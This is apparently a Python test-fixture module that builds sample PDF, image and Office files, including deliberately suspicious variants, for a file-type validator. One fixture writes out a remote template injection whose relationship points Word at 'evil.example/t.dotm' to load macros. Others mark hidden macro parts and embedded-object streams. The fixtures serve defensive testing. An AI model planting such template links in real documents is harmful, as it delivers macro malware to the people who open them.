"""Small real files of each type, and some that only pretend."""

import io
import zipfile
import zlib
from typing import Any

from fpdf import FPDF
from fpdf.enums import EncryptionMethod

PDF = b"%PDF-1.7\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"
PNG = bytes.fromhex(
    "89504e470d0a1a0a0000000d4948445200000001000000010802000000907753de0000000c49444154789c63606060000000"
    "040001f61738550000000049454e44ae426082"
)
JPEG = bytes.fromhex("ffd8ffe000104a46494600010100000100010000ffd9")
_OFFICE = "application/vnd.openxmlformats-officedocument"


def office(main: str, *, also: str | None = None) -> bytes:
    """A package whose main part is of that content type."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as package:
        types = f'<?xml version="1.0"?><Types><Override PartName="/main.xml" ContentType="{main}"/></Types>'
        package.writestr("[Content_Types].xml", types)
        package.writestr("main.xml", "<x/>")
        if also:
            package.writestr(also, b"\x00")
    return buffer.getvalue()


DOCX = office(f"{_OFFICE}.wordprocessingml.document.main+xml")
XLSX = office(f"{_OFFICE}.spreadsheetml.sheet.main+xml")
MACROS = office("application/vnd.ms-word.document.macroEnabled.main+xml")
HIDDEN_MACROS = office(f"{_OFFICE}.wordprocessingml.document.main+xml", also="word/vbaProject.bin")
PLAIN_ZIP = office("text/plain")

_RELATION = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
TEMPLATE = (
    f'<Relationships><Relationship Id="r1" Type="{_RELATION}/attachedTemplate" '
    'Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>'
).encode()
"""A template that Word loads, with its macros, when it opens the document."""
LINK = (
    f'<Relationships><Relationship Id="r1" Type="{_RELATION}/hyperlink" Target="https://jinan.example/" '
    f'TargetMode="External"/><Relationship Id="r2" Type="{_RELATION}/attachedTemplate" '
    'Target="file:///C:\\Templates\\Normal.dotm" TargetMode="External"/></Relationships>'
).encode()
PACKAGER = "\x01Ole10Native".encode("utf-16-le")
"""The stream of an object that is any file: a program, for instance."""

SEAL = (
    b"<</AcroForm<</SigFlags 3/Fields[3 0 R]>>/Perms<</DocMDP 4 0 R>>>>endobj\n"
    b"3 0 obj<</FT/Sig/Subtype/Widget/V 4 0 R>>endobj\n"
    b"4 0 obj<</Type/Sig/Filter/Adobe.PPKLite/SubFilter/ETSI.CAdES.detached/ByteRange[0 10 20 10]/Contents<3082>>>"
)
"""What a sealing service adds to a PDF file: a form with a signature, and what may be changed afterwards."""


def pdf(further: bytes) -> bytes:
    """A PDF file with one more object."""
    return PDF.replace(b"trailer", b"2 0 obj" + further + b"endobj\ntrailer")


def packed(objects: bytes, *, rounds: int = 1, padding: int = 0) -> bytes:
    """A PDF file with objects in a compressed stream, packed so often, and so many blanks in its dictionary."""
    for _ in range(rounds):
        objects = zlib.compress(objects)
    filters = b"/FlateDecode" * rounds
    head = b"<</Type/ObjStm/N 1/First 4/Length %d/Filter[%s]" % (len(objects), filters)
    return pdf(head + b" " * padding + b">>stream\n" + objects + b"\nendstream\n")


def office_with(name: str, content: bytes) -> bytes:
    """A DOCX file with one more part."""
    buffer = io.BytesIO(DOCX)
    with zipfile.ZipFile(buffer, "a", zipfile.ZIP_DEFLATED) as package:
        package.writestr(name, content)
    return buffer.getvalue()


def restricted(
    objects: bytes, *, method: EncryptionMethod, password: str | None = None, further: bytes = b""
) -> bytes:
    """A PDF file whose owner restricts it by a password, with these objects in an encrypted stream. `password`: needed
    to open it; `further` stands in the stream's dictionary."""
    document: Any = FPDF()
    document.set_encryption("owner", password, encryption_method=method, permissions=0)
    document.add_page()
    document.line(10, 10, 90, 90)
    content = bytes(document.output())
    stream = document._security_handler.encrypt_stream(zlib.compress(objects), 99)
    head = b"99 0 obj\n<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length %d%s>>" % (len(stream), further)
    return content.replace(b"xref\n", head + b"stream\n" + stream + b"\nendstream\nendobj\nxref\n", 1)


def packed_with_escape() -> bytes:
    """A PDF file whose packed bytes hold what would be an escape in a name."""
    objects = zlib.compress(b"1 0 <</Type/Page/Title(#41)>>", level=0)
    return pdf(b"<</Type/ObjStm/N 1/First 4/Filter/FlateDecode>>stream\n" + objects + b"\nendstream\n")
